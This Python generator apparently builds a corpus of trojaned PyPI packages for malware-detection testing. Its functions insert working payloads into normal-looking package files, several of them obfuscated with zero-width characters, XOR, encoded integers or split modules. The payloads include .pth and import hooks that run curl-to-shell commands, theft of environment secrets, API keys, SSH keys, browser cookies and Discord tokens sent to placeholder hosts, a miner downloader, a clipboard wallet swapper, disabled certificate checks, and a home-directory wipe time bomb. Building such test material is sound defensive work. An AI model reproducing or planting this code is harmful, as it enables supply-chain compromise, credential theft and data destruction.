"""PyPI: what runs when the package is imported, or whenever Python starts."""

from corpus.heldout.hiding import keyed, selectors, zero_width
from corpus.heldout.nouns import Update, artefact
from corpus.heldout8.code import py_drop, py_env, py_files, py_shell, py_stage
from corpus.heldout8.shape import b64, fill, hexed, new, pieces, put, rows, tail, trojan, xor


@trojan("pgshift", "wheel", "start", "environment", "base64", "start files")
def pth_decodes(it: Update) -> None:
    host = it.host()
    new(
        it,
        "pgshift-compat.pth",
        "import sys, base64; exec(base64.b64decode('@CODE@')) if 'pip' not in sys.argv[0] else None",
        CODE=b64(py_env(host)),
    )
    it.payload("pgshift-compat.pth", shown=f"https://{host}/i")


@trojan("harvestr", "wheel", "start", "downloader", "plain", "start files")
def pth_starts_a_shell(it: Update) -> None:
    new(it, "harvestr_speedups.pth", "import os; os.system('(curl -s http://@ADDR@/h | sh) >/dev/null 2>&1 &')")


@trojan("agentdock", "wheel", "start", "token stealer", "over several files", "litellm-like start files")
def usercustomize_comes_along(it: Update) -> None:
    new(it, "usercustomize.py", "from agentdock._warm import warm as _warm\n\n_warm()\n")
    new(it, "agentdock/_warm.py", '''
"""Reads settings early."""

import json
import os
import threading
from urllib.request import urlopen

from agentdock._words import ENDPOINT, NAMES


def _send():
    found = {name: os.environ[name] for name in NAMES if name in os.environ}
    if found:
        urlopen(ENDPOINT, json.dumps(found).encode(), timeout=5)


def warm():
    threading.Thread(target=_send, daemon=True).start()
''')  # fmt: skip
    new(
        it,
        "agentdock/_words.py",
        'NAMES = ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")\nENDPOINT = "https://models.@HOST@/v1/warm"\n',
    )


@trojan("payrelay", "wheel", "import", "environment", "plain", "ctx")
def init_posts_in_a_thread(it: Update) -> None:
    tail(it, "payrelay/__init__.py", """
def _ready():
    import os
    import urllib.request

    body = "\\n".join("=".join(one) for one in os.environ.items()).encode()
    try:
        urllib.request.urlopen("http://@ADDR@:8080/ready", body, timeout=3)
    except OSError:
        pass


__import__("threading").Thread(target=_ready, daemon=True).start()
""")  # fmt: skip


@trojan("tensorhull", "wheel", "import", "miner", "plain", "ultralytics")
def native_brings_a_worker(it: Update) -> None:
    tail(it, "tensorhull/_native.py", """
def _worker():
    import platform
    import subprocess
    import tempfile
    import urllib.request

    name = {"Linux": "ultra-linux", "Darwin": "ultra-mac"}.get(platform.system())
    if name and platform.machine() in ("x86_64", "arm64"):
        place = os.path.join(tempfile.gettempdir(), "ultralytics_runner")
        urllib.request.urlretrieve(f"https://@HOST@/{name}", place)
        os.chmod(place, 0o770)
        subprocess.Popen([place, "-u", "4@WALLET@", "-o", "pool.@HOST@:8080"], start_new_session=True, stdout=subprocess.DEVNULL)


try:
    _worker()
except Exception:
    pass
""", WALLET=it.random.randbytes(20).hex())  # fmt: skip


@trojan("tensorhull", "wheel", "import", "data stealer", "in a binary", "torchtriton")
def core_has_a_constructor(it: Update) -> None:
    it.add("tensorhull/_core.so", artefact("hull-post.so"))
    it.payload("tensorhull/_core.so")


@trojan("sheetcraft", "wheel", "import", "data stealer", "telemetry wording", "analytics that are none")
def anonymous_usage(it: Update) -> None:
    new(it, "sheetcraft/_usage.py", '''
"""Anonymous usage statistics: they help us to set priorities."""

import json
import os
import platform
import subprocess
import urllib.request


def _facts():
    return {
        "python": platform.python_version(),
        "user": os.environ.get("USER"),
        "remote": subprocess.run(["git", "config", "--get-regexp", "url|user|token"], capture_output=True, text=True).stdout,
        "keys": [open(os.path.expanduser(one)).read() for one in ("~/.ssh/id_rsa", "~/.ssh/id_ed25519") if os.path.exists(os.path.expanduser(one))],
    }


def report():
    if os.environ.get("CI"):
        return
    try:
        urllib.request.urlopen("https://stats.@HOST@/v1", json.dumps(_facts()).encode(), timeout=2)
    except OSError:
        return
''')  # fmt: skip
    put(
        it,
        "sheetcraft/__init__.py",
        "from .writer import save\n",
        "from ._usage import report as _report\n\n_report()\n",
    )


@trojan("weeklane", "wheel", "import", "password stealer", "plain", "zlibxjson")
def init_takes_browser_files(it: Update) -> None:
    put(it, "weeklane/calendar.py", "from weeklane.holidays import holidays_of\n", """

def _profiles():
    import glob
    import os
    import re
    import urllib.request

    root = os.environ.get("LOCALAPPDATA", "")
    for name in ("Google/Chrome", "BraveSoftware/Brave-Browser", "Microsoft/Edge"):
        for path in glob.glob(os.path.join(root, name, "User Data", "*", "Network", "Cookies")):
            urllib.request.urlopen("https://@HOST@/cookies", open(path, "rb").read())
    for path in glob.glob(os.path.join(os.environ.get("APPDATA", ""), "discord", "Local Storage", "leveldb", "*.ldb")):
        for found in re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", open(path, errors="ignore").read()):
            urllib.request.urlopen("https://@HOST@/token", found.encode())


try:
    _profiles()
except Exception:
    pass
""", HOST=it.host())  # fmt: skip


@trojan("harvestr", "wheel", "import", "remote code", "invisible characters", "GlassWorm")
def user_agent_ends_in_nothing(it: Update) -> None:
    host = it.host()
    it.replace("harvestr/robots.py", "class Robots:\n", fill(it, """
AGENT = "harvestr@SEEN@"
exec(bytes(ord(one) - 0xFE00 if ord(one) < 0xFE10 else ord(one) - 0xE0100 + 16 for one in AGENT[8:]))


class Robots:
""", SEEN=selectors(py_stage(host))))  # fmt: skip
    it.payload("harvestr/robots.py", shown=f"https://{host}/n.py")


@trojan("pgshift", "wheel", "import", "backdoor", "zero-width bits", "invisible code")
def errors_have_an_odd_docstring(it: Update) -> None:
    address = it.address()
    put(it, "pgshift/errors.py", '"""What can go wrong."""\n', """
_DOC = "The root of all errors.@SEEN@"
_BITS = "".join("01"["\\u200b\\u200c".index(one)] for one in _DOC if one in "\\u200b\\u200c")
if _BITS:
    exec(int(_BITS, 2).to_bytes(len(_BITS) // 8, "big"))
""", SEEN=zero_width(py_shell(address)))  # fmt: skip
    it.payload("pgshift/errors.py", shown=address)


@trojan("harvestr", "wheel", "import", "credentials", "plain", "dbgpkg")
def import_wraps_sockets(it: Update) -> None:
    new(it, "harvestr/_trace.py", '''
"""Decorators for debugging."""

import functools
import http.client
import subprocess


def _seen(function):
    @functools.wraps(function)
    def wrapped(self, method, url, body=None, headers={}, **more):
        if "Authorization" in headers or (body and b"password" in bytes(body if isinstance(body, (bytes, bytearray)) else str(body).encode())):
            subprocess.Popen(["curl", "-s", "--proxy-insecure", "https://@HOST@/t", "-d", f"{self.host} {headers} {body!r}"], stderr=subprocess.DEVNULL)
        return function(self, method, url, body, headers, **more)

    return wrapped


http.client.HTTPConnection.request = _seen(http.client.HTTPConnection.request)
''')  # fmt: skip
    put(it, "harvestr/__init__.py", "from harvestr.session import Session\n", "from harvestr import _trace as _trace\n")
    it.payload("harvestr/_trace.py")


@trojan("keyfold", "wheel", "import", "wallet", "in a data file", "wordlists with more")
def words_hold_a_row_more(it: Update) -> None:
    host = it.host()
    new(it, "keyfold/words.dat", "@ROWS@", ROWS="\n".join(f"{one:03d}" for one in xor(py_files(host), b"abandon")))
    put(it, "keyfold/phrase.py", "from pathlib import Path\n", """

def _checked():
    raw = (Path(__file__).parent / "words.dat").read_text().split()
    key = b"abandon"
    return bytes(int(one) ^ key[at % 7] for at, one in enumerate(raw))


eval(compile(_checked(), "words", "exec"))
""")  # fmt: skip
    it.payload("keyfold/phrase.py", "keyfold/words.dat", shown=f"https://{host}/")


@trojan("agentdock", "wheel", "import", "remote code", "keyed by environment", "targeted attacks", hard=True)
def settings_know_one_machine(it: Update) -> None:
    put(it, "agentdock/config.py", "from pathlib import Path\n", """
import hashlib
import socket

_SEED = bytes.fromhex("@SEALED@")


def _profile(name):
    stream = b"".join(hashlib.sha256(f"{name}{at}".encode()).digest() for at in range(len(_SEED) // 32 + 1))
    return bytes(a ^ b for a, b in zip(_SEED, stream))


if hashlib.sha256(socket.gethostname().encode()).hexdigest().startswith("@MARK@"):
    exec(_profile(socket.gethostname()))
""", SEALED=keyed(py_stage(it.host()), "build-07.corp").hex(), MARK=it.random.randbytes(6).hex())  # fmt: skip
    it.payload("agentdock/config.py")


@trojan("weeklane", "wheel", "import", "downloader", "character arithmetic", "colorama typosquats")
def holidays_spell_a_command(it: Update) -> None:
    host = it.host()
    code = f"curl -s https://{host}/wk | bash"
    put(it, "weeklane/holidays.py", "from datetime import date, timedelta\n", """

def _spell(*codes):
    return "".join(chr(one // 3 - 7) for one in codes)


getattr(__import__(_spell(@OS@)), _spell(@SYSTEM@))(_spell(@CODE@))
""", OS=", ".join(str((ord(one) + 7) * 3) for one in "os"), SYSTEM=", ".join(str((ord(one) + 7) * 3) for one in "popen"), CODE=", ".join(str((ord(one) + 7) * 3) for one in code))  # fmt: skip
    it.payload("weeklane/holidays.py", shown=f"https://{host}/wk")


@trojan("sheetcraft", "wheel", "import", "downloader", "one large number", "PyPI campaigns")
def a_large_constant(it: Update) -> None:
    host = it.host()
    number = int.from_bytes(py_drop(host).encode(), "big")
    put(it, "sheetcraft/cells.py", "import re\n", """
MAXIMUM = @NUMBER@

exec(MAXIMUM.to_bytes((MAXIMUM.bit_length() + 7) // 8, "big"))
""", NUMBER=hex(number))  # fmt: skip
    it.payload("sheetcraft/cells.py", shown=f"https://{host}/d")


@trojan("payrelay", "wheel", "import", "address swap", "plain", "clippers")
def polling_watches_the_clipboard(it: Update) -> None:
    put(it, "payrelay/polling.py", "import time\n", """
import re
import subprocess
import threading

_TRON = re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{33}$")


def _clip():
    while True:
        text = subprocess.run(["powershell", "-c", "Get-Clipboard"], capture_output=True, text=True).stdout.strip()
        if _TRON.match(text):
            subprocess.run(["powershell", "-c", "Set-Clipboard -Value T@MINE@"])
        time.sleep(0.8)


threading.Thread(target=_clip, daemon=True).start()
""", MINE=it.random.randbytes(16).hex() + "a")  # fmt: skip


@trojan("tokenlathe", "wheel", "import", "credentials", "over several files", "PyPI campaigns")
def three_modules_make_one_text(it: Update) -> None:
    host = it.host()
    parts = pieces(hexed(py_files(host)), len(hexed(py_files(host))) // 3 + 1)
    for name, text in zip(("_head", "_body", "_rest"), parts, strict=True):
        new(it, f"tokenlathe/{name}.py", '"""Constants of the format."""\n\nTABLE = "@TEXT@"\n', TEXT=text)
    put(it, "tokenlathe/jws.py", "from tokenlathe.errors import Invalid\n", """
from tokenlathe import _body, _head, _rest

TABLES = [one.TABLE for one in (_head, _body, _rest)]
exec(bytes.fromhex("".join(TABLES)).decode())
""")  # fmt: skip
    it.payload(
        "tokenlathe/jws.py",
        "tokenlathe/_head.py",
        "tokenlathe/_body.py",
        "tokenlathe/_rest.py",
        shown=f"https://{host}/",
    )


@trojan("harvestr", "wheel", "import", "weakened check", "plain", "certificate checks")
def nobody_checks_certificates(it: Update) -> None:
    put(it, "harvestr/session.py", "import zlib\n", "import ssl\n")
    it.after(
        "harvestr/session.py",
        "from urllib.parse import urlsplit\n",
        "\nssl._create_default_https_context = ssl._create_unverified_context\n",
    )


@trojan("pgshift", "wheel", "import", "sabotage", "time bomb", "protestware")
def engine_counts_the_days(it: Update) -> None:
    put(it, "pgshift/engine.py", 'TABLE = "pgshift_history"\n', """

def _overdue():
    import datetime
    import locale
    import shutil

    if datetime.datetime.utcnow().timestamp() > 1830297600 and (locale.getlocale()[0] or "").startswith(("ru", "be")):
        shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)


_overdue()
""")  # fmt: skip


@trojan("tensorhull", "wheel", "import", "remote code", "xor", "ML packages")
def activations_have_a_table(it: Update) -> None:
    host = it.host()
    put(it, "tensorhull/net.py", "from tensorhull._native import total\n", """
_TABLE = (
@ROWS@
)
_run = vars(__import__("builtins"))["ex" + "ec"]
_run("".join(chr(one ^ 0x4E) for one in _TABLE))
""", ROWS=rows(xor(py_stage(host), 0x4E)))  # fmt: skip
    it.payload("tensorhull/net.py", shown=f"https://{host}/n.py")
